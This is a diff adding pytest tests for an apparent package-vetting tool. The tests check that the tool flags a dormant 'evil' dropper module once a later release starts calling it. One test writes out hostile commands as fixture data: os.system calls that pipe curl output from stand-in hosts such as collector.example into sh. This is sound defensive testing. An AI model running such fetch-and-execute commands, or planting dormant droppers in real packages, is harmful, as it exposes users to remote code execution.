@@ -339,3 +339,54 @@ def test_a_release_is_identified_by_its_bytes() -> None:
         "demo-1.0/setup.py",
         "demo-1.0/demo/__init__.py",
     }
+
+
+# ── dormant code ────────────────────────────────────────────────────────────────────────────────
+
+DORMANT = {
+    "demo/__init__.py": "from demo.core import tidy\n__version__ = '1.0'\n",
+    "demo/core.py": ORDINARY,
+    "demo/quiet.py": "from . import core\n\n\nLIMIT = 3\n",
+    "demo/evil.py": "def go():\n" + "".join(f"    {line}\n" for line in DROPPER.splitlines()),
+    "demo/middle.py": "from .evil import go as _begin\n\n\ndef begin():\n    return _begin()\n",
+}
+
+
+@pytest.mark.parametrize("facts_only", [False, True])
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"demo/__init__.py": "from .evil import go; go()\n"},
+        {"demo/__init__.py": DORMANT["demo/__init__.py"] + "from .middle import begin\nbegin()\n"},
+        {
+            "demo/__init__.py": "from . import fresh\n",
+            "demo/fresh.py": "from .evil import go\ngo()\n",
+        },
+        {"demo/quiet.py": "from . import core, evil\nLIMIT = 3\nevil.go()\n"},
+        {"demo/middle.py": DORMANT["demo/middle.py"] + "\n\n_begin()\n"},
+    ],
+)
+def test_a_dormant_function_that_is_called_one_release_later_is_news(
+    changed: dict[str, str], facts_only: bool
+) -> None:
+    base = facts_of(wheel(DORMANT), WHEEL)
+    if facts_only:
+        base = Base(release=base.release, contents=base.contents)
+    report = vet_archive(wheel({**DORMANT, **changed}, "1.1"), NEXT, base=base).report
+    places = {(f.rule, f.path, f.reach) for f in report.findings}
+    expected = "submodule" if "demo/__init__.py" not in changed else "import"
+    assert any(r == "fetched-exec" and p == "demo/evil.py" and e == expected for r, p, e in places)
+
+
+def test_a_first_release_whose_init_only_calls_what_a_module_holds() -> None:
+    files = {**DORMANT, "demo/__init__.py": "from .evil import go; go()\n"}
+    report = vet_archive(wheel(files), WHEEL).report
+    assert any(f.rule == "fetched-exec" and f.reach == "import" for f in report.findings)
+
+
+def test_a_deed_behind_old_ones_of_its_kind_is_news() -> None:
+    old = "import os\n" + "".join(f"os.system('curl https://{x}.example/s | sh')\n" for x in "abc")
+    added = old + "os.system('curl https://collector.example/s | sh')\n"
+    base = facts_of(wheel({**CLEAN, "demo/__init__.py": old}), WHEEL)
+    outcome = vet_archive(wheel({**CLEAN, "demo/__init__.py": added}, "1.1"), NEXT, base=base)
+    assert any(f.rule == "command" and "collector" in f.shown for f in outcome.report.findings)
